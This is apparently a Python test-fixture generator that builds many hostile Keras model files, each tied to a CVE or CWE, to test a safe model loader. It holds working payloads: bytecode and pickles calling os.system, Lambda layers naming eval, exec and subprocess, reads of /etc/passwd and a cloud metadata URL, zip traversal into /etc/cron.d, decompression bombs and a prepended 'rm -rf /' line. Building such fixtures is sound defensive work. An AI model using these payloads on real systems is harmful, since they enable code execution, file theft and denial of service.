"""Hostile files, as a table: name, advisory, and what makes the file; `write_all(folder)` writes them.

Each is written from what is publicly known of an advisory (CVE-..., or the kind of weakness, CWE-...) and its variants.
The functions of the table change one harmless model, which is a Dense layer.
"""

import base64
import copy
import io
import json
import marshal
import struct
import warnings
import zipfile
import zlib

import h5py
import numpy as np

BYTECODE = base64.b64encode(marshal.dumps(compile("import os; os.system('touch /tmp/owned')", "x", "exec"))).decode()
LAMBDA = {"class_name": "__lambda__", "config": {"code": BYTECODE, "defaults": None, "closure": None}}
FILE, URL = "/etc/passwd", "http://169.254.169.254/latest/meta-data"


def entry(module, class_name, config, registered=None, **more):
    return {"module": module, "class_name": class_name, "config": config, "registered_name": registered, **more}


def layer(class_name, module="keras.layers", **config):
    return entry(module, class_name, {"name": "evil", **config})


def function(module, name, registered="function"):
    return entry(module, "function", name, registered)


# Changes of a config ------------------------------------------------------------------------------------------------


def base_config():
    dense = layer("Dense", units=2, trainable=True, dtype="float32")
    dense["config"]["name"] = "dense"
    dense["build_config"] = {"input_shape": [None, 3]}
    first = layer("InputLayer", batch_shape=[None, 3], dtype="float32")
    first["config"]["name"] = "input"
    return entry("keras", "Sequential", {"name": "m", "trainable": True, "dtype": "float32", "layers": [first, dense]},
                 build_config={"input_shape": [None, 3]})


def changed(change):
    config = base_config()
    return change(config) or config


def with_layer(new):
    def change(config):
        config["config"]["layers"].append(new)
    return change


def set_in(*path, value):
    def change(config):
        for key in path[:-1]:
            config = config[key]
        config[path[-1]] = value
    return change


def of_dense(**new):
    return lambda config: config["config"]["layers"][1]["config"].update(new)


def functional(*layers, ends=("a", 0, 0)):
    first = layer("InputLayer", batch_shape=[None, 3], dtype="float32")
    first["config"]["name"] = first["name"] = "a"
    first["inbound_nodes"] = []
    return lambda config: entry("keras.src.models.functional", "Functional", {
        "name": "m", "trainable": True, "layers": [first, *layers], "input_layers": [["a", 0, 0]], "output_layers": [list(ends)]})


def tensor(name, node=0, index=0, shape=(None, 3)):
    return {"class_name": "__keras_tensor__", "config": {"shape": list(shape), "dtype": "float32",
                                                         "keras_history": [name, node, index]}}


def node(new, name, *args, **kwargs):
    return {**copy.deepcopy(new), "name": name, "inbound_nodes": [{"args": list(args), "kwargs": kwargs}],
            "config": {**copy.deepcopy(new["config"]), "name": name}}


def nested(depth):
    """A model that calls a model twice that calls a model twice ...: 2 ** depth calls."""
    def inner(level):
        if not level:
            return layer("Activation", activation="relu")
        return functional(*(node(inner(level - 1), "b", tensor("a")) | {"inbound_nodes": [
            {"args": [tensor("a")], "kwargs": {}}, {"args": [tensor("b")], "kwargs": {}}]} for _ in (0,)),
            ends=("b", 1 if level == 1 else 2, 0))(None)
    return lambda config: inner(depth)


def deep(depth, leaf=1):
    for _ in range(depth):
        leaf = {"config": leaf, "class_name": "Sequential"}
    return leaf


ALIEN = [("os", "system"), ("builtins", "eval"), ("builtins", "exec"), ("subprocess", "Popen"), ("importlib", "import_module"),
         ("pickle", "loads"), ("ctypes", "CDLL"), ("marshal", "loads"), ("webbrowser", "open"), ("shutil", "rmtree")]
INNER = [("keras.utils", "get_file"), ("keras.models", "load_model"), ("keras.config", "enable_unsafe_deserialization"),
         ("keras.src.saving.serialization_lib", "enable_unsafe_deserialization"), ("keras.src.utils.python_utils", "func_load"),
         ("keras.src.backend.common.global_state", "set_global_attribute"), ("keras.src.utils.file_utils", "extract_archive"),
         ("cornu.utils.downloads", "get_file"), ("cornu.saving.model_file", "load_model"), ("cornu.cli", "run")]
FILES = [layer(c, vocabulary=v) for c, v in (
    ("StringLookup", FILE), ("StringLookup", URL), ("StringLookup", "file:///etc/passwd"), ("IntegerLookup", "gs://bucket/x"),
    ("TextVectorization", FILE), ("TextVectorization", "../../../../etc/passwd"))] + [
    layer("TextVectorization", vocabulary=["a"], idf_weights=FILE, output_mode="tf_idf"),
    layer("TFSMLayer", filepath="/tmp/saved_model", call_endpoint="serve"),
    layer("TorchModuleWrapper", module_path=BYTECODE), layer("TorchModuleWrapper", module={"class_name": "__bytes__", "config": {
        "value": "\x80\x04cos\nsystem\n."}}), layer("JaxLayer", call_fn=LAMBDA), layer("FlaxLayer", module=LAMBDA)]

CONFIGS = [
    ("lambda", "CVE-2024-3660", with_layer(layer("Lambda", function=LAMBDA, arguments={}))),
    ("lambda in output_shape", "CVE-2024-3660", with_layer(layer("Lambda", function="relu", output_shape=LAMBDA))),
    ("lambda in mask", "CVE-2024-3660", with_layer(layer("Lambda", function="relu", mask=LAMBDA))),
    ("lambda of Keras 2", "CVE-2024-3660", with_layer(layer("Lambda", function=[BYTECODE, None, None], function_type="lambda"))),
    ("lambda of Keras 2 without its type", "CVE-2024-3660", with_layer(layer("Lambda", function=[BYTECODE, None, None]))),
    ("lambda in a wrapper", "CVE-2024-3660", with_layer(layer("TimeDistributed", layer=layer("Lambda", function=LAMBDA)))),
    ("lambda as activation", "CVE-2024-3660", of_dense(activation=LAMBDA)),
    ("lambda as initializer", "CVE-2024-3660", of_dense(kernel_initializer=LAMBDA)),
    ("lambda as loss", "CVE-2024-3660", set_in("compile_config", value={"optimizer": "sgd", "loss": LAMBDA})),
    ("lambda as metric", "CVE-2024-3660", set_in("compile_config", value={"optimizer": "sgd", "loss": "mse", "metrics": [LAMBDA]})),
    ("lambda as learning rate", "CVE-2024-3660", set_in("compile_config", value={"optimizer": entry(
        "keras.optimizers", "SGD", {"learning_rate": LAMBDA}), "loss": "mse"})),
    ("lambda in a call's arguments", "CVE-2024-3660", functional(node(layer("Activation", activation="relu"), "b", tensor("a"), mask=LAMBDA),
                                                                ends=("b", 0, 0))),
    ("lambda without a module", "CVE-2026-12481", with_layer({"class_name": "Lambda", "config": {"name": "l", "function": LAMBDA}})),
    *((f"class {m}.{c}", "CVE-2025-1550", lambda _, m=m, c=c: entry(m, c, {"command": "touch /tmp/owned"})) for m, c in ALIEN),
    *((f"layer {m}.{c}", "CVE-2025-1550", with_layer(entry(m, c, {"args": ["touch /tmp/owned"]}, f"{m}>{c}"))) for m, c in ALIEN[:4]),
    *((f"function {m}.{c}", "CVE-2025-1550", with_layer(layer("Lambda", function=function(m, c)))) for m, c in ALIEN),
    *((f"function {m}.{c}", "CVE-2025-8747 CVE-2025-9906", with_layer(layer("Lambda", function=function(m, c), arguments={
        "fname": "x", "origin": URL, "safe_mode": False}))) for m, c in INNER),
    ("load_model called with a path", "CVE-2025-9906", functional(node(
        layer("Lambda", function=function("keras.models", "load_model"), arguments={"safe_mode": False}), "b",
        inputs="/tmp/model.keras"), ends=("b", 0, 0))),
    ("unsafe loading as a callable object", "CVE-2025-9906", lambda _: function("keras.config", "enable_unsafe_deserialization")),
    ("unsafe loading as activation", "CVE-2025-9906", of_dense(activation="enable_unsafe_deserialization")),
    ("unsafe loading as initializer", "CVE-2025-9906", of_dense(bias_initializer=function("keras.config", "enable_unsafe_deserialization"))),
    *((f"{f['class_name']} {i}", "CVE-2025-12058 CVE-2026-1462 CVE-2025-49655", with_layer(f)) for i, f in enumerate(FILES)),
    ("layer name with a path", "CVE-2026-12479", set_in("config", "layers", 1, "config", "name", value="../../../../tmp/owned")),
    ("layer name is absolute", "CVE-2026-12479", set_in("config", "layers", 1, "config", "name", value="/etc/cron.d/owned")),
    ("layer name is NaN", "CWE-20", set_in("config", "layers", 1, "config", "name", value=float("nan"))),
    ("layer name is a list", "CWE-20", set_in("config", "layers", 1, "config", "name", value=["a"])),
    ("layer name is huge", "CWE-400", set_in("config", "layers", 1, "config", "name", value="a" * 10 ** 6)),
    ("class name is a number", "CWE-20", set_in("config", "layers", 1, "class_name", value=7)),
    ("module is a dict", "CWE-20", set_in("config", "layers", 1, "module", value={"a": 1})),
    ("layers is a number", "CWE-20", set_in("config", "layers", value=7)),
    ("units of 10**12", "CVE-2026-0897", of_dense(units=10 ** 12)),
    ("units is a string", "CWE-20", of_dense(units="2; import os")),
    ("units is negative", "CWE-20", of_dense(units=-2)),
    ("units is NaN", "CWE-20", of_dense(units=float("nan"))),
    ("an input of 10**15", "CVE-2026-0897", set_in("config", "layers", 0, "config", "batch_shape", value=[None, 10 ** 15])),
    ("build config of another shape", "CVE-2026-0897", set_in("config", "layers", 1, "build_config", value={"input_shape": [None, 10 ** 9]})),
    ("an embedding of 10**14", "CVE-2026-0897", lambda _: layer("Embedding", input_dim=10 ** 7, output_dim=10 ** 7,
                                                              build_config=None) | {"build_config": {"input_shape": [1, 1]}}),
    ("a string array of 2 GB", "CWE-770", of_dense(kernel_initializer={"class_name": "__numpy__", "config": {
        "value": ["a"], "dtype": "S2000000000"}})),
    ("an array of objects", "CWE-502", of_dense(kernel_initializer={"class_name": "__numpy__", "config": {"value": ["a"], "dtype": "object"}})),
    ("a tensor of a structured dtype", "CWE-20", of_dense(kernel_initializer={"class_name": "__tensor__", "config": {
        "value": [1], "dtype": "f4,f4"}})),
    ("a metric of 10**10 thresholds", "CWE-770", set_in("compile_config", value={"optimizer": "sgd", "loss": "mse", "metrics": [
        entry("keras.metrics", "AUC", {"num_thresholds": 10 ** 10})]})),
    ("a matrix of 10**12 classes", "CWE-770", set_in("compile_config", value={"optimizer": "sgd", "loss": "mse", "metrics": [
        entry("keras.metrics", "MeanIoU", {"num_classes": 10 ** 6})]})),
    ("models that call models", "CWE-776", nested(30)),
    ("a graph in a circle", "CWE-835", functional(node(layer("Activation", activation="relu"), "b", tensor("c")),
                                                  node(layer("Activation", activation="relu"), "c", tensor("b")), ends=("c", 0, 0))),
    ("a call of itself", "CWE-835", functional(node(layer("Activation", activation="relu"), "b", tensor("b")), ends=("b", 0, 0))),
    ("an output that nothing gives", "CWE-20", functional(ends=("nowhere", 3, 9))),
    ("a tensor's index of -1", "CWE-20", functional(ends=("a", 0, -7))),
    ("a bad graph", "CWE-20", functional({"name": "b", "class_name": "Dense", "config": None, "inbound_nodes": 7})),
    ("an einsum of 10**6 letters", "CWE-400", with_layer(layer("EinsumDense", equation="a" * 10 ** 6, output_shape=[1]))),
    ("an optimizer that is none", "CVE-2025-1550", set_in("compile_config", value={"optimizer": entry("os", "system", {"command": "x"})})),
    ("a loss that is none", "CVE-2025-1550", set_in("compile_config", value={"optimizer": "sgd", "loss": function("os", "system")})),
    ("compile told what it does not know", "CWE-20", set_in("compile_config", value={"optimizer": "sgd", "shell": "true"})),
    ("a dtype that is none", "CWE-20", of_dense(dtype={"module": "os", "class_name": "system", "config": {"name": "x"}})),
    ("a dtype that is a path", "CWE-20", of_dense(dtype="/etc/passwd")),
    ("parts nested 300 deep", "CWE-674", with_layer(deep(300))),
    ("parts nested 60 deep", "CWE-674", with_layer(deep(60))),
]


# Bytes of a config.json ------------------------------------------------------------------------------------------------

JSONS = [
    ("100,000 brackets", "CWE-674", b"[" * 100_000 + b"]" * 100_000),
    ("100,000 braces", "CWE-674", b'{"a":' * 100_000 + b"1" + b"}" * 100_000),
    ("3 million empty lists", "CWE-400", b"[" + b"[]," * 3_000_000 + b"1]"),
    ("4 million strings", "CWE-400", b'{"a":[' + b'"ab",' * 4_000_000 + b"1]}"),
    ("a number of a million digits", "CWE-400", b'{"a":' + b"9" * 10 ** 6 + b"}"),
    ("a key twice", "CWE-436", b'{"class_name": "Sequential", "class_name": "Lambda", "config": {}}'),
    ("a list", "CWE-20", b"[1, 2]"), ("nothing", "CWE-20", b""), ("no text", "CWE-20", b"\xff\xfe\0\1"),
    ("NaN", "CWE-20", b"NaN"), ("a pickle", "CWE-502", b"\x80\x04cos\nsystem\nq\0."), ("Python", "CWE-94", b"__import__('os').system('x')"),
]


# Changes of an HDF5 file --------------------------------------------------------------------------------------------------


def group_cycle(f):
    f["layers/x"] = f["layers"]


def loop(f):
    f["x"] = h5py.SoftLink("/y")
    f["y"] = h5py.SoftLink("/x")


def virtual(f):
    source = h5py.VirtualSource("/etc/passwd", "x", (4,))
    layout = h5py.VirtualLayout((4,), "f4")
    layout[:] = source
    f.create_virtual_dataset("x", layout)


def virtual_own(f):
    layout = h5py.VirtualLayout((4,), "f4")
    layout[:] = h5py.VirtualSource(".", "layers/dense/vars/1", (4,))
    f.create_virtual_dataset("x", layout)


def deep_groups(f):
    for _ in range(3000):
        f = f.create_group("g")


def contiguous_giant(f):
    plain = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    plain.set_alloc_time(h5py.h5d.ALLOC_TIME_LATE)
    f.create_dataset("x", (1 << 40,), "f4", dcpl=plain)


def committed(f):
    f["t"] = np.dtype("f4")
    f.create_dataset("x", (3,), dtype=f["t"])


def many_groups(f):
    for i in range(30_000):
        f.create_group(f"g{i}")


def huge_attribute(f):
    f.attrs["x"] = "a" * (1 << 25)


def reference(f):
    f.create_dataset("x", data=np.array([f.ref], dtype=h5py.ref_dtype))


def strings(f):
    f.create_dataset("x", data=["a"] * 3, dtype=h5py.string_dtype())


def replaced(f):
    del f["layers/dense/vars/0"]
    f["layers/dense/vars/0"] = h5py.ExternalLink("/etc/passwd", "/x")


def root_link(f):
    f["model_weights"] = h5py.ExternalLink("/var/lib/other.h5", "/model_weights")


HDF5S = [
    ("external link", "CVE-2026-1669", lambda f: f.__setitem__("x", h5py.ExternalLink(FILE, "/"))),
    ("external link as a weight", "CVE-2026-1669", replaced), ("external link at the root", "CVE-2026-1669", root_link),
    ("external storage", "CVE-2026-1669", lambda f: f.create_dataset("x", (4,), "f4", external=[("/etc/hostname", 0, 16)])),
    ("virtual dataset", "CVE-2026-1669", virtual), ("virtual dataset of its own", "CVE-2026-1669", virtual_own),
    ("soft link", "CVE-2026-1669", lambda f: f.__setitem__("x", h5py.SoftLink("/layers"))), ("soft links in a circle", "CWE-835", loop),
    ("group that holds itself", "CWE-674", group_cycle), ("array with two names", "CWE-674", lambda f: f.__setitem__("y", f["layers/dense/vars/0"])),
    ("3,000 groups deep", "CWE-674", deep_groups), ("30,000 groups", "CWE-400", many_groups),
    ("giant shape in chunks", "CVE-2026-0897", lambda f: f.create_dataset("x", (1 << 40,), "f4", chunks=(1024,))),
    ("giant shape", "CVE-2026-0897", contiguous_giant),
    ("giant shape, packed", "CVE-2026-0897", lambda f: f.create_dataset("x", (1 << 36,), "f4", chunks=(1 << 20,), compression="gzip")),
    ("packed bomb", "CWE-409", lambda f: f.create_dataset("x", data=np.zeros(1 << 24, "f4"), compression="gzip", compression_opts=9)),
    ("checksum filter", "CWE-409", lambda f: f.create_dataset("x", data=np.zeros(9), chunks=(9,), fletcher32=True)),
    ("resizable", "CWE-400", lambda f: f.create_dataset("x", (0,), "f4", maxshape=(None,))),
    ("strings", "CWE-20", strings), ("object reference", "CWE-20", reference), ("committed dtype", "CWE-20", committed),
    ("compound", "CWE-20", lambda f: f.create_dataset("x", data=np.zeros(3, "f4,i4"))),
    ("array dtype", "CWE-20", lambda f: f.create_dataset("x", (3,), dtype=np.dtype(("f4", (1000, 1000))))),
    ("sequences of any length", "CWE-20", lambda f: f.create_dataset("x", (3,), dtype=h5py.vlen_dtype("f4"))),
    ("complex", "CWE-20", lambda f: f.create_dataset("x", data=np.zeros(3, "c8"))),
    ("enumeration", "CWE-20", lambda f: f.create_dataset("x", (3,), dtype=h5py.enum_dtype({"a": 1, "b": 2}, "i4"))),
    ("no shape", "CWE-20", lambda f: f.create_dataset("x", data=h5py.Empty("f4"))),
    ("unknown opaque dtype", "CWE-20", lambda f: f.create_dataset("x", (3,), "V2").attrs.__setitem__("dtype", "os.system")),
    ("a stranger", "CWE-20", lambda f: f.create_dataset("layers/dense_1/vars/0", data=np.zeros(3, "f4"))),
    ("a weight of another shape", "CWE-20", lambda f: (f.__delitem__("layers/dense/vars/1"),
                                                     f.create_dataset("layers/dense/vars/1", data=np.zeros(9, "f4")))),
    ("a huge attribute, and a stranger", "CWE-400", lambda f: (huge_attribute(f), f.create_group("vars/x").create_dataset("0", data=1.0))),
]


def h5_bytes(change=None) -> bytes:
    space = io.BytesIO()
    with h5py.File(space, "w") as f:
        f.create_group("layers/dense/vars").attrs["name"] = "dense"
        f["layers/dense/vars/0"] = np.ones((3, 2), "f4")
        f["layers/dense/vars/1"] = np.zeros(2, "f4")
        f.create_group("vars")
        if change:
            change(f)
    return space.getvalue()


def patched(data: bytes, old: bytes, new: bytes) -> bytes:
    assert old in data
    return data.replace(old, new, 1)


H5 = h5_bytes()
LAYOUT = b"\x08\0\x18\0\0\0\0\0\x03\x01"  # the message that says where an array of one piece lies
RAW = [  # bytes of an HDF5 file
    ("empty", "CWE-20", b""), ("only its magic", "CWE-125", H5[:8]), ("half", "CWE-125", H5[:len(H5) // 2]),
    ("its end missing", "CWE-125", H5[:-8]), ("text", "CWE-20", b"hello" * 100),
    ("a pickle", "CWE-502", b"\x80\x04cos\nsystem\n(S'x'\ntR."), ("unknown version", "CWE-20", H5[:8] + b"\x09" + H5[9:]),
    ("root nowhere", "CWE-125", H5[:64] + b"\xff" * 8 + H5[72:]), ("root at itself", "CWE-674", H5[:64] + struct.pack("<Q", 0) + H5[72:]),
    ("a user block", "CWE-436", H5[:24] + struct.pack("<Q", 512) + H5[32:]),
    ("an array past the end", "CWE-125", patched(H5, LAYOUT + H5[H5.index(LAYOUT) + 10:][:8], LAYOUT + struct.pack("<Q", 1 << 40))),
    ("arrays on each other", "CWE-400", patched(H5, LAYOUT + H5[H5.index(LAYOUT) + 10:][:8], LAYOUT + struct.pack(
        "<Q", struct.unpack_from("<Q", H5, H5.rindex(LAYOUT) + 10)[0]))),
    ("a tree with itself as child", "CWE-674", patched(H5, b"TREE\0\0\1\0", b"TREE\0\1\1\0")),
    ("65,535 children", "CWE-125", patched(H5, b"TREE\0\0\1\0", b"TREE\0\0\xff\xff")),
    ("65,535 names", "CWE-125", patched(H5, b"SNOD\1\0\1\0", b"SNOD\1\0\xff\xff")),
    ("a heap of 2**60 bytes", "CWE-770", patched(H5, b"HEAP" + H5[H5.index(b"HEAP") + 4:][:12], b"HEAP\0\0\0\0" + struct.pack("<Q", 1 << 60))),
    ("a name as a path", "CVE-2026-12479", patched(H5, b"dense\0\0\0", b"../../x\0")),
]


# Archives ---------------------------------------------------------------------------------------------------------------


def archive(path, config=None, h5=None, extra=(), replace=None, order=("metadata.json", "config.json", "model.weights.h5"), **how):
    members = {"metadata.json": b'{"keras_version": "3.15.1"}',
               "config.json": config if isinstance(config, bytes) else json.dumps(config or base_config()).encode(),
               "model.weights.h5": H5 if h5 is None else h5, **(replace or {})}
    with zipfile.ZipFile(path, "w", **how) as z:
        for name in order:
            z.writestr(name, members[name])
        for name, data in extra:
            z.writestr(name, data)


def info(name, mode=0o100644, **more):
    found = zipfile.ZipInfo(name)
    found.external_attr = mode << 16
    for key, value in more.items():
        setattr(found, key, value)
    return found


def extra(name, data=b"x", mode=0o100644, **more):
    return lambda path: archive(path, extra=[(info(name, mode, **more), data)])


def edited(old, new, count=1, **how):
    def make(path):
        archive(path, **how)
        data = path.read_bytes()
        assert old in data
        path.write_bytes(data.replace(old, new, count))
    return make


def packed(member, size):
    return lambda path: archive(path, replace={member: b" " * size}, compression=8)


def twice(path):
    archive(path)
    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(path, "a") as z:
        z.writestr("config.json", json.dumps(changed(with_layer(layer("Lambda", function=LAMBDA)))))


def overlapping(path):
    """Two entries of the list of members mean the same bytes: what bombs by overlap are made of."""
    archive(path, extra=[("assets/a", b"x"), ("assets/b", b"x")])
    data = bytearray(path.read_bytes())
    entries = [i for i in range(len(data)) if data[i:i + 4] == b"PK\1\2"]
    data[entries[4] + 42:entries[4] + 46] = data[entries[3] + 42:entries[3] + 46]
    path.write_bytes(data)


def sizes(member, compressed, whole):
    """The list of members states other sizes than the member has."""
    def make(path):
        archive(path)
        data = bytearray(path.read_bytes())
        at = next(i for i in range(len(data)) if data[i:i + 4] == b"PK\1\2" and data[i + 46:].startswith(member.encode()))
        data[at + 20:at + 28] = struct.pack("<II", compressed, whole)
        path.write_bytes(data)
    return make


def many_members(path):
    archive(path, extra=[(f"assets/{i}", b"") for i in range(20_000)])


def with_front(data):
    def make(path):
        archive(path)
        path.write_bytes(data + path.read_bytes())
    return make


def lying_bomb(path):
    """Deflated zeros whose stated size is small."""
    squeeze = zlib.compressobj(9, 8, -15)
    data = squeeze.compress(bytes(1 << 27)) + squeeze.flush()
    space = io.BytesIO()
    archive(space, replace={"config.json": b" " * 40}, compression=8)
    raw = space.getvalue()
    small = zlib.compressobj(-1, 8, -15)
    small = small.compress(b" " * 40) + small.flush()
    start = raw.index(small)
    raw = raw[:start] + data + raw[start + len(small):]
    shift = len(data) - len(small)
    raw = bytearray(raw)
    raw[start - len("config.json") - 12:start - len("config.json") - 8] = struct.pack("<I", len(data))
    for i in [i for i in range(len(raw)) if raw[i:i + 4] == b"PK\1\2"]:
        if raw[i + 46:].startswith(b"config.json"):
            raw[i + 20:i + 24] = struct.pack("<I", len(data))
        elif raw[i + 46:].startswith(b"model"):
            raw[i + 42:i + 46] = struct.pack("<I", struct.unpack_from("<I", raw, i + 42)[0] + shift)
    end = len(raw) - 22
    raw[end + 16:end + 20] = struct.pack("<I", struct.unpack_from("<I", raw, end + 16)[0] + shift)
    path.write_bytes(raw)


ARCHIVES = [
    ("traversal", "CVE-2025-12060", extra("../evil")), ("deep traversal", "CVE-2025-12060", extra("assets/../../../tmp/evil")),
    ("absolute", "CVE-2025-12060", extra("/etc/cron.d/evil")), ("backslash", "CVE-2025-12060", extra("assets\\..\\evil")),
    ("drive", "CVE-2025-12060", extra("assets/C:evil")), ("symbolic link", "CVE-2025-12060", extra("assets/x", FILE.encode(), 0o120777)),
    ("config is a link", "CVE-2025-12060", lambda path: archive(path, order=("metadata.json", "model.weights.h5"), extra=[
        (info("config.json", 0o120777), FILE.encode())])),
    ("device", "CVE-2025-12060", extra("assets/x", b"", 0o060644)), ("pipe", "CVE-2025-12060", extra("assets/x", b"", 0o010644)),
    ("folder", "CWE-20", extra("assets/x/", b"", 0o040755)), ("Python", "CWE-94", extra("evil.py", b"import os")),
    ("control characters", "CWE-150", extra("assets/\x1b[2J")), ("pickle", "CWE-502", extra("model.pkl", b"\x80\x04.")),
    ("name twice", "CWE-436", twice), ("overlap", "CWE-409", overlapping), ("20,000 members", "CWE-400", many_members),
    ("another name inside", "CWE-436", edited(b"config.json", b"CONFIG.json")),
    ("config of 256 MB", "CWE-409", packed("config.json", 1 << 28)), ("weights of 512 MB", "CWE-409", packed("model.weights.h5", 1 << 29)),
    ("metadata of 256 MB", "CWE-409", packed("metadata.json", 1 << 28)), ("a bomb that lies", "CWE-409", lying_bomb),
    ("stated size of 4 GB", "CWE-770", sizes("model.weights.h5", 0xfffffff0, 0xfffffff0)),
    ("two sizes", "CWE-436", sizes("model.weights.h5", 100, 10 ** 9)), ("size of 0", "CWE-436", sizes("config.json", 0, 0)),
    ("LZMA", "CWE-409", lambda path: archive(path, compression=14)), ("bzip2", "CWE-409", lambda path: archive(path, compression=12)),
    ("bytes in front", "CWE-436", with_front(b"#!/bin/sh\nrm -rf /\n")), ("a comment", "CWE-436", edited(b"PK\5\6", b"PK\5\7")),
    ("a picture in front", "CWE-436", with_front(b"\x89PNG\r\n")),
    ("a bit of the weights", "CWE-354", edited(H5[-300:-290], bytes(x ^ 1 for x in H5[-300:-290]))),
    ("a bit of the config", "CWE-354", edited(b'"units": 2', b'"units": 3')),
    ("only half", "CWE-125", lambda path: (archive(path), path.write_bytes(path.read_bytes()[:900]))),
    ("no config", "CWE-20", lambda path: archive(path, order=("metadata.json", "model.weights.h5"))),
    ("no weights", "CWE-20", lambda path: archive(path, order=("metadata.json", "config.json"))),
    ("weights that are text", "CWE-20", lambda path: archive(path, h5=b"hello")), ("empty", "CWE-20", lambda path: path.write_bytes(b"")),
    ("only an end", "CWE-20", lambda path: path.write_bytes(b"PK\5\6" + bytes(18))),
]


def safe_tensors(data=bytes(24), size=None, **entries):
    """A safetensors file: a header, and data."""
    header = json.dumps({name: {"dtype": d, "shape": s, "data_offsets": o} for name, (d, s, o) in entries.items()}).encode()
    return struct.pack("<Q", len(header) if size is None else size) + header + data


A, B = "layers/dense/vars/0", "layers/dense/vars/1"
TENSORS = [
    ("header of 2**63 bytes", "CWE-770", safe_tensors(size=1 << 63)), ("header of 0 bytes", "CWE-20", safe_tensors(size=0)),
    ("giant shape", "CVE-2026-0897", safe_tensors(**{A: ("F32", [1 << 40], [0, 24])})),
    ("shape that overflows", "CWE-190", safe_tensors(**{A: ("F32", [1 << 32, 1 << 32], [0, 24])})),
    ("negative shape", "CWE-20", safe_tensors(**{A: ("F32", [-6], [0, 24])})),
    ("offsets past the end", "CWE-125", safe_tensors(**{A: ("F32", [3, 2], [0, 24]), B: ("F32", [10], [24, 64])})),
    ("offsets that overlap", "CWE-400", safe_tensors(**{A: ("F32", [3, 2], [0, 24]), B: ("F32", [2], [0, 8])})),
    ("a hole", "CWE-20", safe_tensors(bytes(40), **{A: ("F32", [3, 2], [16, 40])})),
    ("offsets backwards", "CWE-20", safe_tensors(**{A: ("F32", [3, 2], [24, 0])})),
    ("unknown dtype", "CWE-20", safe_tensors(**{A: ("O", [3, 2], [0, 24])})), ("shape of text", "CWE-20", safe_tensors(**{A: ("F32", "32", [0, 24])})),
    ("a million arrays", "CWE-400", safe_tensors(b"", **{f"a{i}": ("F32", [0], [0, 0]) for i in range(50_000)})),
    ("a name as a path", "CVE-2026-12479", safe_tensors(**{"../../etc/x": ("F32", [3, 2], [0, 24])})),
    ("a pickle", "CWE-502", b"\x80\x04cos\nsystem\n(S'x'\ntR."), ("empty", "CWE-20", b""), ("no JSON", "CWE-20", struct.pack("<Q", 9) + b"{" * 90),
    ("deep", "CWE-674", struct.pack("<Q", 200_000) + b"[" * 100_000 + b"]" * 100_000)]


def keras2(config, **attributes):
    """A Keras 2 file with a config."""
    def change(f):
        f.attrs["keras_version"], f.attrs["backend"] = "2.15.0", "tensorflow"
        f.attrs["model_config"] = config if isinstance(config, str) else json.dumps(config)
        weights = f.create_group("model_weights")
        weights.attrs["layer_names"] = np.array([b"dense"])
        for key, value in attributes.items():
            f.attrs[key] = value
    return h5_bytes(change)


def write(data):
    return lambda path: path.write_bytes(data)


def in_archive(config):
    return lambda path: archive(path, config=config)


def rows():
    """Every hostile file: its name, ending, advisory and maker."""
    for name, advisory, change in CONFIGS:
        config = changed(change)
        yield name, ".keras", advisory, in_archive(config)
        if advisory not in ("CVE-2026-0897", "CWE-770"):  # a text alone may ask for as much memory as there is
            yield name, ".json", advisory, write(json.dumps(config).encode())
    yield "units of 10**12", ".json", "CWE-770", write(json.dumps(changed(of_dense(units=10 ** 12))).encode())
    for name, advisory, data in JSONS:
        yield name, ".keras", advisory, in_archive(data)
        if len(data) < 1 << 20:
            yield name, ".json", advisory, write(data)
    for name, advisory, change in HDF5S:
        data = h5_bytes(change)
        yield name, ".weights.h5", advisory, write(data)
        if len(data) < 1 << 20:
            yield name, ".keras", advisory, lambda path, data=data: archive(path, h5=data)
    for name, advisory, data in RAW:
        yield name, ".weights.h5", advisory, write(data)
        yield name, ".keras", advisory, lambda path, data=data: archive(path, h5=data)
    for name, advisory, change in CONFIGS[:60]:  # those that carry code, or name what is none of Keras's
        yield name, ".h5", "CVE-2025-9905 " + advisory, write(keras2(changed(change)))
    for name, advisory, data in JSONS:
        if len(data) < 1 << 20:
            yield name, ".h5", advisory, write(keras2(data.decode("latin-1").replace("\0", "")))
    yield "a loss that is code", ".h5", "CVE-2025-9905", write(keras2(base_config(), training_config=json.dumps({
        "loss": LAMBDA, "optimizer_config": {"class_name": "SGD", "config": {}}})))
    for name, advisory, data in TENSORS:
        yield name, ".safetensors", advisory, write(data)
    for name in ("../m_00000.weights.h5", "/etc/passwd", "m_00000.weights.h5/../../x", "http://x/m_00000.weights.h5", 7, None):
        yield f"a part named {name}", ".weights.json", "CVE-2025-12060 CVE-2026-1669", write(json.dumps({
            "metadata": {"total_size": 24.0}, "weight_map": {"/layers/dense/vars": name}}).encode())
    for name, advisory, make in ARCHIVES:
        yield name, ".keras", advisory, make


def write_all(folder) -> list:
    """Write the files; their paths with names and advisories."""
    found = []
    for number, (name, ending, advisory, make) in enumerate(rows()):
        path = folder / f"{number}{ending}"
        make(path)
        found.append((str(path), f"{name} ({ending})", advisory))
    return found
